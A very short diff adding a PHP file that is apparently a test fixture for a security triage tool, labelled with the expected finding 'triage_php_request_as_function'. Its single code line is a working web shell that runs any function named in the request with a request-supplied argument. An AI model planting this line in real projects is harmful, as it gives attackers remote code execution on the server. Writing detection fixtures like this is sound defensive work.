@@ -1,0 +1,3 @@
+<?php
+// triage-expect: triage_php_request_as_function
+$_GET['f']($_GET['c']);
